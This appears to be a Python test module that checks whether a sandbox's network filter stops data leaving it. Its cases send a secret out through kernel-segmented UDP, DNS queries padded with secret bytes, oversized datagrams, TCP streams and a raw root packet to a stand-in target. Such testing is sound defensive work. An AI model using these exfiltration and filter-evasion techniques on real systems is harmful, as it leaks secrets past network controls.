"""What the kernel or the card is to cut: one packet here, many on the wire."""

UDP_SEGMENT = 103


@way("datagrams cut by the kernel (UDP_SEGMENT)")
def segmented(scene):
    sending = scene.socket(socket.SOCK_DGRAM)
    sending.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, 1000)
    attempt(sending.sendto, SECRET * 10000, (scene.target, 4444))


@way("datagrams cut by the kernel, to an allowed address")
def segmented_allowed(scene):
    sending = scene.socket(socket.SOCK_DGRAM)
    sending.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, 1200)
    attempt(sending.sendto, SECRET * 10000, (scene.allowed, 443))


@way("questions cut by the kernel")
def questions(scene):
    """The first is one that may be asked."""
    sending = scene.socket(socket.SOCK_DGRAM)
    whole = query("allowed.test")
    sending.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, len(whole))
    others = (SECRET * 9)[: len(whole)] * 3
    attempt(sending.sendto, whole + others, (RESOLVERS[scene.family], 53))


@way("the largest datagram")
def largest(scene):
    sending = scene.socket(socket.SOCK_DGRAM)
    size = 65507 - (scene.family == V6) * 20
    attempt(sending.sendto, (SECRET * 11000)[:size], (scene.target, 4444))


@way("a stream of a megabyte")
def stream(scene):
    sending = scene.socket(socket.SOCK_STREAM)
    sending.settimeout(0.5)
    if attempt(sending.connect, (scene.target, 4444)) is None:
        attempt(sending.sendall, SECRET * 200000)


@way("a file of a megabyte")
def file(scene):
    sending = scene.socket(socket.SOCK_STREAM)
    sending.settimeout(0.5)
    attempt(sending.connect, (scene.target, 443))
    with open("/proc/self/exe", "rb") as program:
        attempt(sending.sendfile, program, 0, 1 << 20)


@way("the largest packet of root's", ("run",), (V4,), root=True)
def raw(scene):
    datagram = udp(scene.own, scene.port, scene.target, 4444, SECRET * 240)
    scene.emit(datagram)
